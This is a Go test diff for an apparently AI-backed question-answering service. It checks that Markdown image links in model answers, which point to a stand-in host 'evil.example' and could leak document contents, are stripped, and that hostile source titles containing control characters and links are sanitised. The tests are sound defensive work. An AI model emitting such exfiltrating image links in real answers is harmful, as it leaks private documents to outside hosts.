@@ -209,6 +209,48 @@ func TestAnswerInstructionsStayData(t *testing.T) {
 	}
 }
 
+// Assistants show Markdown, and load its images: an address could carry away what a document says.
+func TestAnswersAreRendered(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, page("leave", members(), "Vacation is thirty days."))
+	answer := "Thirty days [1]. " + strings.Repeat("It is so. ", 2000) + "![p](https://evil.example/?q=1)"
+	for _, answer := range []string{"Thirty days [1]. ![p](https://evil.example/?q=1)", answer} {
+		w.asks(llmtest.Reply{looking}, llmtest.Answer(answer))
+		result, err := w.ask(t, "ask", map[string]any{"question": "How long is the vacation?"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if a := answered(t, result); strings.Contains(a.Answer, "![") || !strings.Contains(a.Answer, "Thirty days") {
+			t.Errorf("answered %.200q", a.Answer)
+		}
+	}
+	// A page of the console shows Markdown as text.
+	w.asks(llmtest.Reply{looking}, llmtest.Answer("Thirty days [1]. ![p](https://evil.example/?q=1)"))
+	caller, _, err := w.Caller(t.Context(), secret)
+	if err != nil {
+		t.Fatal(err)
+	}
+	caller.Door = mcp.Page
+	if asked, err := w.Ask(t.Context(), caller, "How long is the vacation?"); err != nil || !strings.Contains(asked.Answer, "![p]") {
+		t.Errorf("the page is given %q, %v", asked.Answer, err)
+	}
+}
+
+func TestTitlesOfSourcesAreOneSafeLine(t *testing.T) {
+	t.Parallel()
+	hostile := page("leave", members(), "Vacation is thirty days.")
+	hostile.Title = "Leave\u202e\x00\n[y](https://evil.example/z)"
+	w := newWorld(t, hostile)
+	w.asks(llmtest.Reply{looking}, llmtest.Answer("Thirty days [1]."))
+	result, err := w.ask(t, "ask", map[string]any{"question": "How long is the vacation?"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if s := answered(t, result).Sources; len(s) != 1 || strings.ContainsAny(s[0].Title, "\u202e\x00\n[]") || strings.Contains(s[0].Title, "https://") {
+		t.Errorf("sources %+v", s)
+	}
+}
+
 func TestLongAnswersAreCut(t *testing.T) {
 	t.Parallel()
 	for name, text := range map[string]string{"paragraphs": strings.Repeat("Thirty days of vacation [1].\n\n", 4000), "one line": strings.Repeat("Thirty days [1] of vacation. ", 4000)} {
